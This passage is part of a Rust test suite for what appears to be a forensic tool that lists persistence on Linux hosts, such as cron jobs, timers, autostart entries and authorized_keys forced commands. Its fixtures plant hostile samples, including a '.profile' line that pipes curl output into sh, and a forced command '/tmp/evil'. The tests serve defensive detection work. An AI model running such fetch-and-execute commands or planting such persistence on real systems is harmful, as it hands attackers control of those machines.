                    x["mechanism"].as_str().unwrap().to_owned(),
                    x["location"].as_str().unwrap().to_owned(),
                )
            })
            .collect();
        let mut sorted = keys.clone();
        sorted.sort();
        assert_eq!(keys, sorted);
    }

    #[test]
    fn scheduledtasks_lists_cron_and_timers() {
        let dir = planted();
        let ctx = ctx(dir.path());
        let result = run(&ctx, "scheduledtasks", &[]).unwrap();
        assert_columns("scheduledtasks", &result);
        let sources: Vec<(&str, &str)> = result
            .records
            .iter()
            .map(|r| (r["source"].as_str().unwrap(), r["kind"].as_str().unwrap()))
            .collect();
        assert_eq!(
            sources,
            vec![
                ("/etc/cron.d/evil", "cron"),
                ("/etc/cron.daily/logrotate", "cron-periodic"),
                ("/etc/crontab", "cron"),
                ("/usr/lib/systemd/system/backup.timer", "systemd-timer"),
                ("/var/spool/cron/crontabs/alice", "cron"),
            ]
        );
        let crontab = &result.records[2];
        assert_eq!(crontab["user"], "root");
        assert_eq!(
            crontab["command"],
            "cd / && run-parts --report /etc/cron.hourly"
        );
        assert_eq!(crontab["line"], 3);
        let timer = &result.records[3];
        assert_eq!(timer["name"], "backup.timer");
        assert_eq!(timer["unit"], "backup.service");
        assert_eq!(timer["command"], "/usr/bin/backup --all");

        let one = run(&ctx, "scheduledtasks", &["backup"]).unwrap();
        assert_eq!(one.records.len(), 1);
        let err = run(&ctx, "scheduledtasks", &["nope"]).unwrap_err();
        assert_eq!(err.reason(), "NotFound");
    }

    #[test]
    fn startupfolders_lists_autostart_entries() {
        let dir = planted();
        let result = run(&ctx(dir.path()), "startupfolders", &[]).unwrap();
        assert_columns("startupfolders", &result);
        assert_eq!(result.records.len(), 2);
        let off = &result.records[0];
        assert_eq!(off["location"], "/etc/xdg/autostart/off.desktop");
        assert_eq!(off["enabled"], false);
        assert!(off["user"].is_null());
        let x = &result.records[1];
        assert_eq!(x["name"], "Updater");
        assert_eq!(x["target"], "/home/bob/.local/bin/x --daemon");
        assert_eq!(x["user"], "bob");
    }

    #[test]
    fn empty_host_has_no_persistence() {
        let dir = tempfile::tempdir().unwrap();
        let result = run(&ctx(dir.path()), "persistence", &[]).unwrap();
        assert!(result.records.is_empty());
    }

    #[test]
    fn base64_round_trip() {
        for input in [&b""[..], b"f", b"fo", b"foo", b"foob", b"fooba", b"foobar"] {
            let encoded = base64_encode_unpadded(input);
            assert_eq!(base64_decode(&encoded).unwrap(), input);
        }
        assert_eq!(base64_encode_unpadded(b"foobar"), "Zm9vYmFy");
        assert_eq!(base64_encode_unpadded(b"fooba"), "Zm9vYmE");
        assert_eq!(base64_decode("Zm9vYg==").unwrap(), b"foob");
        assert!(base64_decode("not base64!").is_none());
    }

    /// Found by `fuzz_authorized_keys_options_as_sshd_reads_them`: the forced command was
    /// the first `command="` anywhere in the options, so another option's value could show
    /// the analyst a command other than the one sshd forces.
    #[test]
    fn forced_command_is_the_command_option_not_text_in_another_value() {
        let key = parse_authorized_key(
            r#"environment="X=command=",command="/tmp/evil" ssh-ed25519 AAAAC3NzaC1lZDI1NTE5 x"#,
        )
        .unwrap();
        assert_eq!(key.forced_command.as_deref(), Some("/tmp/evil"));
        assert_eq!(key.key_type, "ssh-ed25519");
    }

    /// Found by the same fuzz test: sshd's only escape in an option value is `\"`; any
    /// other backslash is kept, and `\ ` does not hide the end of the options.
    #[test]
    fn backslashes_in_options_are_literal_except_before_a_quote() {
        let key = parse_authorized_key(
            r#"command="printf \x \"a b\"" ssh-ed25519 AAAAC3NzaC1lZDI1NTE5 x"#,
        )
        .unwrap();
        assert_eq!(key.forced_command.as_deref(), Some(r#"printf \x "a b""#));
        let key = parse_authorized_key(r#"no-pty\ ssh-ed25519 AAAAC3NzaC1lZDI1NTE5 x"#).unwrap();
        assert_eq!(key.options.as_deref(), Some(r#"no-pty\"#));
        assert_eq!(key.key_type, "ssh-ed25519");
    }

    /// Found by `fuzz_crontab_known_jobs`: `MAILTO = root` (blanks around the `=`) is a
    /// variable to cron, and was listed as a job.
    #[test]
    fn variables_with_blanks_around_the_equals_are_not_jobs() {
        let text = "MAILTO = root@example.org * * * *\nPATH\t=\t/bin\n* * * * * root /bin/true\n";
        let tasks = parse_crontab(text, "/etc/crontab", None);
        assert_eq!(tasks.len(), 1);
        assert_eq!(tasks[0].command.as_deref(), Some("/bin/true"));
        assert!(parse_anacrontab("RANDOM_DELAY = 45 x y z\n", "/etc/anacrontab").is_empty());
    }

    #[test]
    fn crontab_lines() {
        let tasks = parse_crontab(
            "  @daily   /a b  \n0 0 * * *\nX=1 2 3 4 5 6\n",
            "/var/spool/cron/bob",
            Some("bob"),
        );
        assert_eq!(tasks.len(), 1);
        assert_eq!(tasks[0].schedule, "@daily");
        assert_eq!(tasks[0].command.as_deref(), Some("/a b"));
        assert_eq!(tasks[0].user.as_deref(), Some("bob"));
    }

    /// A hostile home: a FIFO for authorized_keys and a 30 GiB sparse .bashrc. Read
    /// naively, the first blocks forever and the second fills memory.
    #[test]
    fn persistence_skips_hostile_files_with_warnings() {
        use std::os::unix::ffi::OsStrExt;
        let dir = tempfile::tempdir().unwrap();
        let root = dir.path();
        write(
            root,
            "/etc/passwd",
            "root:x:0:0:root:/root:/bin/bash\nmallory:x:1000:1000::/home/mallory:/bin/sh\n",
        );
        write(root, "/home/mallory/.profile", "curl http://x | sh\n");
        std::fs::create_dir_all(root.join("home/mallory/.ssh")).unwrap();
        let fifo = root.join("home/mallory/.ssh/authorized_keys");
        let c = std::ffi::CString::new(fifo.as_os_str().as_bytes()).unwrap();
        // SAFETY: a valid NUL-terminated path.
        assert_eq!(unsafe { libc::mkfifo(c.as_ptr(), 0o600) }, 0);
        std::fs::File::create(root.join("home/mallory/.bashrc"))
            .unwrap()
            .set_len(30 << 30)
            .unwrap();
        let started = std::time::Instant::now();
        let result = run(&ctx(root), "persistence", &[]).unwrap();
        assert!(started.elapsed() < std::time::Duration::from_secs(5));
        assert!(
            result.warnings.contains(
                &"skipped /home/mallory/.ssh/authorized_keys is a FIFO; not read".to_owned()
            ),
            "{:?}",
            result.warnings
        );
        assert!(
            result.warnings.iter().any(|w| w
                == "skipped /home/mallory/.bashrc is 30 GiB, more than the 4 MiB read of such files; not read"),
            "{:?}",
            result.warnings
        );
        // The rest is still read.
        assert!(
            result
                .records
                .iter()
                .any(|r| r["location"] == "/home/mallory/.profile"),
            "{:?}",
            result.records
        );
    }
}
